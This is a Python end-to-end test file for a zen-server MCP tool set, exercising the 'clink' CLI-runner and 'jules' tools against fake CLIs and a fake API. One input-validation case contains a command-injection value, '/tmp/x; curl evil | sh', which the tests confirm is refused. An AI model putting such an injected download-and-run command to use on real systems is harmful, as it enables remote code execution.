"""clink and jules end to end: zen-server as a real process, a real MCP client, the fakes behind.

clink runs the fake CLIs (``python -m fakes.agent_cli``) as real subprocesses; jules talks
to the fake Jules API over real HTTP. Both transports for the main paths, stdio for the rest.
"""

from __future__ import annotations

import json
import subprocess
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
from mcp import Client

from fakes.agent_cli.testing import write_cli_clients
from fakes.jules import SOURCES
from fakes.testing import FakeServer
from tests.e2e.conftest import Connect, text_of

pytestmark = pytest.mark.e2e


@pytest.fixture
def jules() -> Iterator[FakeServer]:
    with FakeServer("jules", seed=2) as server:
        yield server


@pytest.fixture
def runs_log(tmp_path: Path) -> Path:
    return tmp_path / "cli-runs.log"


@pytest.fixture
def server_env(
    server_env: dict[str, str], tmp_path: Path, jules: FakeServer, runs_log: Path
) -> dict[str, str]:
    clients = write_cli_clients(
        tmp_path / "clients",
        env={"ZEN_FAKE_CLI_LOG": str(runs_log), "ZEN_FAKE_CLI_PIDFILE": str(tmp_path / "pids")},
    )
    return {
        **server_env,
        "CLI_CLIENTS_CONFIG_PATH": str(clients),
        "JULES_API_KEY": "e2e-jules-key",
        "JULES_BASE_URL": jules.jules_base_url,
    }


def assert_all_dead(pidfile: Path) -> None:
    pids = pidfile.read_text().split()
    assert len(pids) == 2, pids  # the CLI and the child it started
    for pid in pids:
        stat = Path(f"/proc/{pid}/stat")
        assert not stat.exists() or stat.read_text().rsplit(")", 1)[1].split()[0] in {"Z", "X"}, pid


def nothing_ran(runs_log: Path) -> bool:
    return not runs_log.exists()


async def call(client: Client, tool: str, **arguments: Any) -> tuple[bool, dict[str, Any] | str]:
    result = await client.call_tool(tool, arguments)
    text = text_of(result)
    try:
        return bool(result.is_error), json.loads(text)
    except ValueError:
        return bool(result.is_error), text


async def test_clink_answers_and_chat_continues_its_thread(
    connect: Connect, fake: FakeServer, tmp_path: Path
) -> None:
    source = tmp_path / "parser.py"
    source.write_text("def parse(): ...\n")
    async with connect() as client:
        failed, envelope = await call(
            client, "clink", prompt="review this parser", cli_name="codex", role="codereviewer",
            absolute_file_paths=[str(source)],
        )  # fmt: skip
        assert not failed, envelope
        assert isinstance(envelope, dict)
        assert envelope["content"].startswith("FAKE-CLI-REPLY cli=codex")
        assert envelope["metadata"]["role"] == "codereviewer" and envelope["metadata"]["return_code"] == 0
        thread = envelope["continuation_offer"]["continuation_id"]

        failed, answer = await call(
            client, "chat", prompt="summarise what the CLI said", model="llama3.2",
            working_directory_absolute_path=str(tmp_path), continuation_id=thread,
        )  # fmt: skip
        assert not failed, answer
    sent = fake.control.stats(bodies=1).recent[-1]["body"]
    user_text = "\n".join(str(m["content"]) for m in sent["messages"] if m["role"] == "user")
    assert "review this parser" in user_text and "FAKE-CLI-REPLY cli=codex" in user_text


@pytest.mark.parametrize("transport", ["stdio"], indirect=True)
async def test_a_hanging_cli_fails_within_the_deadline_and_leaves_nothing_running(
    connect: Connect, tmp_path: Path
) -> None:
    async with connect(ZEN_TOOL_DEADLINES="clink=14") as client:
        failed, text = await call(client, "clink", prompt="FAKE-CLI-MODE: hang", cli_name="gemini")
    assert failed and "did not finish within 9 s and was stopped with everything it started" in str(text)
    assert_all_dead(tmp_path / "pids")


@pytest.mark.parametrize("transport", ["stdio"], indirect=True)
@pytest.mark.parametrize(
    ("arguments", "message"),
    [
        ({"cli_name": "aider"}, "argument 'cli_name' must be one of"),
        ({"cli_name": "codex", "role": "hacker"}, "argument 'role' must be one of"),
        ({"cli_name": "codex", "absolute_file_paths": ["/tmp/x; curl evil | sh"]}, "shell metacharacters"),
        ({"cli_name": "codex", "absolute_file_paths": ["relative/file.py"]}, "relative path"),
    ],
)
async def test_clink_refuses_bad_input_and_runs_nothing(
    connect: Connect, runs_log: Path, arguments: dict[str, Any], message: str
) -> None:
    async with connect() as client:
        failed, text = await call(client, "clink", prompt="do it", **arguments)
    assert failed and message in str(text)
    assert nothing_ran(runs_log)


@pytest.mark.parametrize("transport", ["stdio"], indirect=True)
async def test_a_crashing_cli_is_a_clear_tool_error(connect: Connect) -> None:
    async with connect() as client:
        failed, text = await call(client, "clink", prompt="FAKE-CLI-MODE: crash", cli_name="claude")
    assert failed and "CLI 'claude' exited with status 3; it said: fatal: claude fake crashed" in str(text)


async def test_jules_drives_a_session_from_create_to_its_pull_request(
    connect: Connect, jules: FakeServer
) -> None:
    async with connect() as client:
        failed, listed = await call(client, "jules", action="list_sources")
        assert not failed and isinstance(listed, dict)
        assert json.loads(listed["content"])[0]["name"] == SOURCES[0]["name"]
        failed, created = await call(
            client, "jules", action="create", prompt="add tests", source=SOURCES[0]["name"],
            require_plan_approval=True,
        )  # fmt: skip
        assert not failed and isinstance(created, dict)
        sid = json.loads(created["content"])["session_id"]
        states = []
        for _ in range(2):
            _, polled = await call(client, "jules", action="status", session_id=sid)
            assert isinstance(polled, dict)
            states.append(json.loads(polled["content"])["state"])
        assert states == ["PLANNING", "AWAITING_PLAN_APPROVAL"]
        failed, _ = await call(client, "jules", action="approve", session_id=sid)
        assert not failed
        _, done = await call(client, "jules", action="status", session_id=sid)
        assert isinstance(done, dict)
        assert json.loads(done["content"])["outputs"][0]["pullRequest"]["url"].endswith("/pull/1")


@pytest.mark.parametrize("transport", ["stdio"], indirect=True)
async def test_a_failing_jules_api_is_a_clear_tool_error(connect: Connect, jules: FakeServer) -> None:
    jules.control.set_model("sources.list", {"faults": [{"kind": "error", "status": 503}]})
    async with connect() as client:
        failed, text = await call(client, "jules", action="list_sources")
    assert failed and "Jules refused to list sources (HTTP 503 UNAVAILABLE)" in str(text)
    assert "e2e-jules-key" not in str(text)


def test_a_broken_clink_configuration_stops_the_server_naming_the_file(
    server_env: dict[str, str], tmp_path: Path, zen_server_cmd: str, process_env: Any
) -> None:
    bad = tmp_path / "broken.json"
    bad.write_text('{"name": "codex", "command": ""}')
    env = process_env({**server_env, "CLI_CLIENTS_CONFIG_PATH": str(bad)})
    done = subprocess.run([zen_server_cmd], env=env, capture_output=True, text=True, timeout=60, input="")
    assert done.returncode == 2 and str(bad) in done.stderr and "command" in done.stderr
